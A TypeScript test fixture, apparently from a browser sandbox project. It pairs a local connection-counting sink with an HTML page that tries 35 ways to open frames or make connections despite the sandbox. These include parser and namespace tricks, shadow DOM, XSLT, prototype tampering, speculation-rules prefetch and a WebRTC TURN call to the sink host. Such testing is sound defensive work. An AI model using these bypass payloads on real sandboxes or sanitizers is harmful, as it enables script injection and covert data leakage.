import { createServer, type AddressInfo } from 'node:net'

/** A host of this computer that counts who connects to it. */
export async function openSink() {
  const connections: string[] = []
  const server = createServer((socket) => {
    connections.push('a connection')
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  return { host, connections, close: () => void server.close() }
}

/** What `frameWays` reports where the sandbox holds. */
export const nothingOpened = { ran: [], made: [], rtc: [], tried: 35 }

/**
 * A document that tries each way by which a script, a parser or a browser may open a frame inside the frame, or a connection that no
 * content security policy covers. Its `output` is JSON of what it got.
 * @param host a host with a port that must never be connected to
 */
export const frameWays = (
  host: string,
) => `<!doctype html><html><head><link rel="preconnect" href="http://${host}"></head>
<body><iframe srcdoc="&lt;script>top.postMessage('source','*');parent.postMessage('source','*')&lt;/script>"></iframe><output></output><script>
var ran = [], made = [], rtc = []
addEventListener('message', function (event) { if (typeof event.data === 'string') ran.push(event.data) })
var inner = '<script>parent.postMessage("script " + typeof RTCPeerConnection, "*");try{var p=new RTCPeerConnection({iceServers:[{urls:"turn:${host}?transport=tcp",username:"secret",credential:"x"}]});p.createDataChannel("d");p.createOffer().then(function(o){return p.setLocalDescription(o)})}catch(e){}<\\/script><link rel=preconnect href="http://${host}"><body onload="parent.postMessage(\\'attribute\\',\\'*\\')"><svg><script>parent.postMessage("svg","*")<\\/script></svg>'
var quoted = inner.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
var html = '<iframe srcdoc="' + quoted + '"></iframe><IFRAME src="javascript:parent.postMessage(1,0)"></IFRAME><link rel="preconnect" href="http://${host}"><object type="text/html"></object><embed type="text/html"><frameset><frame src="about:blank"></frameset>'
var xhtml = 'http://www.w3.org/1999/xhtml'
function fill(frame) { frame.srcdoc = inner; document.body.append(frame); return frame }
function add() { var node = document.createElement('div'); document.body.append(node); return node }
var ways = {
  create: function () { var frame = fill(document.createElement('iframe')); rtc.push(typeof frame.contentWindow.RTCPeerConnection) },
  createByObject: function () { fill(document.createElement({ toString: function () { return 'IFrame' } })) },
  namespace: function () { fill(document.createElementNS(xhtml, 'h:iframe')) },
  hint: function () { var link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://${host}'; document.head.append(link) },
  createDocument: function () { fill(document.implementation.createDocument(xhtml, 'iframe', null).documentElement) },
  otherDocument: function () { fill(document.adoptNode(document.implementation.createHTMLDocument('').createElement('iframe'))) },
  otherWrite: function () { var other = document.implementation.createHTMLDocument(''); other.write(html); document.body.append(other.documentElement) },
  innerHTML: function () { add().innerHTML = html },
  outerHTML: function () { add().outerHTML = html },
  adjacent: function () { document.body.insertAdjacentHTML('beforeend', html) },
  range: function () { document.body.append(document.createRange().createContextualFragment(html)) },
  parse: function () { document.body.append(document.importNode(new DOMParser().parseFromString(html, 'text/html').body, true)) },
  parsePrefix: function () {
    ['x', '_', 'a-b.c', '\\u1680', '\\ufeff'].forEach(function (prefix) {
      var name = '<' + prefix + ':'
      document.body.append(new DOMParser().parseFromString(name + 'a xmlns:' + prefix + '="' + xhtml + '">' + name + 'iframe srcdoc="a"/>' + name + 'link rel="preconnect" href="http://${host}"/></' + prefix + ':a>', 'application/xhtml+xml').documentElement)
    })
  },
  parseEntity: function () { document.body.append(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;iframe/>">]><a xmlns="' + xhtml + '">&e;</a>', 'application/xhtml+xml').documentElement) },
  shadow: function () { add().attachShadow({ mode: 'closed' }).innerHTML = html },
  declaredShadow: function () { add().setHTMLUnsafe('<p><template shadowrootmode="open">' + html + '</template></p>') },
  parseUnsafe: function () { document.body.append(Document.parseHTMLUnsafe(html).body) },
  sanitizer: function () { add().setHTML(html, { sanitizer: { elements: ['iframe', 'link'], attributes: ['srcdoc', 'rel', 'href'] } }) },
  template: function () { var node = document.createElement('template'); node.innerHTML = html; document.body.append(node.content.cloneNode(true)) },
  foreign: function () { add().innerHTML = '<svg><foreignObject>' + html + '</foreignObject><style><p>' + html + '</style></svg><math><mtext>' + html + '</mtext></math>' },
  foreignContext: function () { var svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); add().append(svg); svg.innerHTML = '<style><p>' + html + '</style>' },
  write: function () { document.write(html) },
  writeParts: function () { document.write('<ifr'); document.write('ame srcdoc="' + quoted + '"></iframe><li'); document.write('nk rel=preconnect href="http://${host}">') },
  command: function () { var node = add(); node.contentEditable = true; node.focus(); getSelection().selectAllChildren(node); document.execCommand('insertHTML', false, html) },
  builtIn: function () { var Frame = class extends HTMLIFrameElement {}; customElements.define('a-frame', Frame, { extends: 'iframe' }); fill(new Frame()) },
  moved: function () {
    window.other = document.implementation.createHTMLDocument('').body
    customElements.define('x-mover', class extends HTMLElement { connectedCallback() { if (!this.isMoved) { this.isMoved = true; other.append(this) } } })
    var mover = '<script>other.append(document.currentScript.parentNode)<\\/script>'
    document.write('<div>' + mover + html + '</div><p>' + mover + '<x-mover>' + html + '</x-mover>' + html)
    add().innerHTML = '<x-mover>' + html + '</x-mover>'
    document.body.append(document.adoptNode(other))
  },
  fostered: function () { document.write('<table><tr>' + html + '<b><p></b>' + html + '</table>') },
  speculate: function () {
    var rules = JSON.stringify({ prefetch: [{ urls: ['http://${host}/'], eagerness: 'immediate' }], prerender: [{ urls: ['http://${host}/'], eagerness: 'immediate' }] })
    var script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = rules
    document.head.append(script)
    document.write('<script type="speculationrules">' + rules + '<\\/script>')
  },
  transform: function () {
    var sheet = new XSLTProcessor()
    sheet.importStylesheet(new DOMParser().parseFromString('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><x:element name="i{&quot;frame&quot;}" namespace="' + xhtml + '"/></x:template></x:stylesheet>', 'text/xml'))
    document.body.append(sheet.transformToFragment(document, document))
  },
  download: function () { var request = new XMLHttpRequest(); request.responseType = 'document'; if (request.responseType === 'document') made.push('document by request') },
  policy: function () { trustedTypes.createPolicy('mine', { createHTML: function (text) { return text } }); made.push('policy') },
  open: function () { if (open('about:blank')) made.push('window') },
  worker: function () { new Worker(URL.createObjectURL(new Blob(['postMessage("worker")']))).onmessage = function (event) { ran.push(event.data) } },
  self: function () { new RTCPeerConnection(); made.push('RTCPeerConnection') },
  tamper: function () {
    String.prototype.replace = String.prototype.toLowerCase = function () { return String(this) }
    RegExp.prototype.exec = function () { return null }
    RegExp.prototype[Symbol.replace] = function (text) { return text }
    Reflect.apply = function () {}
    Object.prototype.iframe = Object.prototype.link = 'iframe'
    add().innerHTML = html
    fill(document.createElement('iframe'))
  },
}
var banned = [HTMLIFrameElement, HTMLFrameElement, HTMLLinkElement, HTMLObjectElement, HTMLEmbedElement]
function search(way, root) {
  root.querySelectorAll('*').forEach(function (element) {
    if (banned.some(function (type) { return element instanceof type })) { made.push(way + ' ' + element.localName); element.remove() }
    if (element.shadowRoot) search(way, element.shadowRoot)
  })
}
Object.keys(ways).forEach(function (way) {
  try { ways[way]() } catch (error) {}
  search(way, document)
  if (frames.length > 0) made.push(way + ' frame')
})
delete Object.prototype.iframe
delete Object.prototype.link
setTimeout(function () {
  var output = document.querySelector('output')
  document.body.prepend(output)
  output.textContent = JSON.stringify({ ran: ran, made: made, rtc: rtc, tried: Object.keys(ways).length })
}, 300)
</script></body></html>`
